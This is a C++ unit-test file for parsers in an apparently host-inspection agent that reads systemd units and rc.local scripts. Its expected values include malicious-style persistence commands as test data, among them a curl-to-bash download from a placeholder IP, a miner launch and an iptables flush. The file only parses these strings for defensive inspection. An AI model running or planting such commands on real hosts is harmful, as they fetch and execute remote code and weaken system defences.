// Known-answer tests for ParseSystemdUnit, StripExecPrefixes and ParseShellCommands.
#include <gtest/gtest.h>

#include <string>

#include "agents/host/facts/limits.h"
#include "agents/host/facts/parsers.h"
#include "fixtures.h"

namespace beffroi::host::facts {
namespace {

TEST(ParseSystemdUnit, ServiceExecLinesAndUser) {
  SystemdUnit unit = ParseSystemdUnit(testing::kServiceUnit);
  ASSERT_EQ(unit.exec.size(), 3u);  // the ExecStart under [Install] is ignored
  EXPECT_EQ(unit.exec[0].key, "ExecStartPre");
  EXPECT_EQ(unit.exec[0].command, "-/bin/mkdir -p /tmp/.cache");
  EXPECT_EQ(unit.exec[1].key, "ExecStart");
  // The backslash-newline became one space; the continuation's indentation is trimmed.
  EXPECT_EQ(unit.exec[1].command, "/usr/bin/env bash -c 'curl -s http://203.0.113.7/x | bash'");
  EXPECT_EQ(unit.exec[2].key, "ExecStop");
  EXPECT_EQ(unit.user, "nobody");
  EXPECT_TRUE(unit.schedule.empty());
  EXPECT_EQ(unit.unparsed, 1u);  // "this line has no equals sign"
  ASSERT_NE(unit.FirstExecStart(), nullptr);
  EXPECT_EQ(*unit.FirstExecStart(), unit.exec[1].command);
}

TEST(ParseSystemdUnit, TimerSchedule) {
  SystemdUnit unit = ParseSystemdUnit(testing::kTimerUnit);
  EXPECT_EQ(unit.schedule,
            (std::vector<std::string>{"OnCalendar=*-*-* 03:00:00", "OnBootSec=15min"}));
  EXPECT_TRUE(unit.exec.empty());
  EXPECT_EQ(unit.FirstExecStart(), nullptr);
  EXPECT_EQ(unit.unparsed, 0u);
}

TEST(ParseSystemdUnit, EmptyAssignmentResetsTheList) {
  SystemdUnit unit =
      ParseSystemdUnit("[Service]\nExecStart=/a\nExecStop=/stop\nExecStart=\nExecStart=/b\n");
  ASSERT_EQ(unit.exec.size(), 2u);
  EXPECT_EQ(unit.exec[0].command, "/stop");
  EXPECT_EQ(unit.exec[1].command, "/b");
}

TEST(ParseSystemdUnit, CommentsInsideAContinuationAreDropped) {
  SystemdUnit unit = ParseSystemdUnit("[Service]\nExecStart=/bin/a\\\n# note\n  --flag\n");
  ASSERT_EQ(unit.exec.size(), 1u);
  EXPECT_EQ(unit.exec[0].command, "/bin/a --flag");
}

TEST(ParseSystemdUnit, BackslashOnTheLastLine) {
  SystemdUnit unit = ParseSystemdUnit("[Service]\nExecStart=/bin/a\\");
  ASSERT_EQ(unit.exec.size(), 1u);
  EXPECT_EQ(unit.exec[0].command, "/bin/a");
}

TEST(ParseSystemdUnit, OverlongContinuationIsDropped) {
  std::string text = "[Service]\nExecStart=/bin/a\\\n";
  for (std::size_t i = 0; i < kMaxContinuationLines + 10; ++i)
    text += "x\\\n";
  text += "end\nUser=u\n";
  SystemdUnit unit = ParseSystemdUnit(text);
  EXPECT_TRUE(unit.exec.empty());
  EXPECT_EQ(unit.unparsed, 1u);
  EXPECT_EQ(unit.user, "u");  // parsing resumes after the dropped line
}

TEST(ParseSystemdUnit, BadHeadersAndOrphanAssignments) {
  SystemdUnit unit = ParseSystemdUnit("ExecStart=/orphan\n[Service\nExecStart=/x\n[\n");
  EXPECT_TRUE(unit.exec.empty());
  EXPECT_EQ(unit.unparsed, 4u);  // orphan, bad header, then ExecStart again outside a section
}

TEST(StripExecPrefixes, RemovesSystemdPrefixes) {
  EXPECT_EQ(StripExecPrefixes("-/bin/mkdir -p /x"), "/bin/mkdir -p /x");
  EXPECT_EQ(StripExecPrefixes("+@/bin/sh sh -c id"), "/bin/sh sh -c id");
  EXPECT_EQ(StripExecPrefixes("!!/usr/bin/true"), "/usr/bin/true");
  EXPECT_EQ(StripExecPrefixes("/plain"), "/plain");
  EXPECT_EQ(StripExecPrefixes("-"), "");
}

TEST(ParseShellCommands, SkipsCommentsAndBlankLines) {
  EXPECT_EQ(ParseShellCommands(testing::kRcLocal),
            (std::vector<std::string>{"/usr/local/bin/start-miner &", "iptables -F", "exit 0"}));
}

}  // namespace
}  // namespace beffroi::host::facts
